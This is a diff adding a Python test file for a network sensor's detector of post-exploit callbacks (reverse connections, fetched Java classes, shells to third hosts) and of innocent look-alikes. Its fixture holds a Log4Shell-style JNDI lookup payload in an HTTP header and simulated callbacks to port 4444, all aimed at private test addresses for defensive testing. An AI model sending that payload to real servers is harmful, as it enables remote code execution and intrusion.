@@ -1,0 +1,76 @@
+"""Call backs: connections, shells and fetches of a machine that was just attacked; innocent twins; repetition."""
+
+from __future__ import annotations
+
+from sensor.core.addresses import parse
+from sensor.core.alert import Alert, Severity
+from sensor.core.event import Event
+from sensor.core.packet import Packet
+from sensor.dissectors.http import HttpRequest
+from sensor.dissectors.rat import RatMessage
+from tests.detectors.stories import SECOND, START, Story, alerts_of, detector, heard, one
+
+CALLBACK = "initial_access.callback"
+ATTACKER, VICTIM, NAMED, OTHER = "10.0.0.66", "10.0.0.80", "10.0.0.9", "10.0.0.5"
+
+
+def packet(at: float, source: str, target: str, port: int) -> Packet:
+    return Packet(ts=START + int(at * SECOND), src=parse(source), dst=parse(target), sport=40000, dport=port, proto=6)
+
+
+def request(at: float, source: str, target: str, path: str, *, agent: str = "Mozilla/5.0", odd: tuple[tuple[str, str], ...] = ()) -> Event:
+    return HttpRequest(packet(at, source, target, 80), "GET", "www", path, agent, "", "", "", "", -1, False, (), "", odd)
+
+
+def attack(at: float = 0) -> Event:
+    return request(at, ATTACKER, VICTIM, "/", odd=(("x-api-version", "${jndi:ldap://10.0.0.9:1389/a}"),))
+
+
+def flows_after(events: list[Event], *servers: str, at: float = 5, first: bool = True, size: int = 1 << 30) -> list[Alert]:
+    """What flows raise after events, where the attacker had called the victim before."""
+    unit = detector(CALLBACK)
+    assert heard(unit, events) == []
+    story = Story()
+    if first:
+        story.flow(0, ATTACKER, VICTIM, 80, answered=True)
+    for n, server in enumerate(servers):
+        story.flow(at + n, VICTIM, server, 4444, answered=True)
+    return alerts_of(unit, story.changes(), size)
+
+
+def test_a_connection_to_the_attacker() -> None:
+    """However the changes are cut."""
+    for size in (1, 1 << 30):
+        alert = one(flows_after([attack()], ATTACKER, size=size))
+        assert (alert.actor.address, alert.target and alert.target.address) == (parse(ATTACKER), parse(VICTIM))
+        assert (alert.severity, alert.numbers["port"], alert.numbers["after_s"]) == (Severity.critical, 4444, 5.0)
+
+
+def test_code_from_a_host_that_the_exploit_names() -> None:
+    """Java fetches a class."""
+    story = [attack(), request(1, VICTIM, NAMED, "/Exploit.class", agent="Java/1.8.0_51")]
+    assert "names" in one(heard(detector(CALLBACK), story)).summary
+
+
+def test_a_shell_to_a_third_host() -> None:
+    """The shell goes elsewhere: told all the same."""
+    alert = one(heard(detector(CALLBACK), [attack(), RatMessage(packet(2, VICTIM, OTHER, 9001), "command shell", "sh: no job control", True)]))
+    assert alert.severity == Severity.high
+    assert "shell" in alert.summary
+
+
+def test_innocent_twins_are_quiet() -> None:
+    """No attack before; long after; another server; a page that the victim reads; machines that call each other."""
+    assert flows_after([], ATTACKER) == []
+    assert flows_after([attack()], ATTACKER, at=400) == []
+    assert flows_after([attack()], OTHER, NAMED) == []
+    assert flows_after([request(0, ATTACKER, VICTIM, "/index.html")], ATTACKER) == []
+    assert (
+        heard(detector(CALLBACK), [attack(), request(1, VICTIM, OTHER, "/news", agent="Mozilla/5.0"), request(2, OTHER, NAMED, "/a.sh", agent="curl/8")]) == []
+    )
+    assert heard(detector(CALLBACK), [RatMessage(packet(2, VICTIM, OTHER, 9001), "command shell", "sh: no job control", True)]) == []
+
+
+def test_repetition_is_one_finding() -> None:
+    """A victim that tries again and again."""
+    assert len(flows_after([attack()], *[ATTACKER] * 50)) == 1
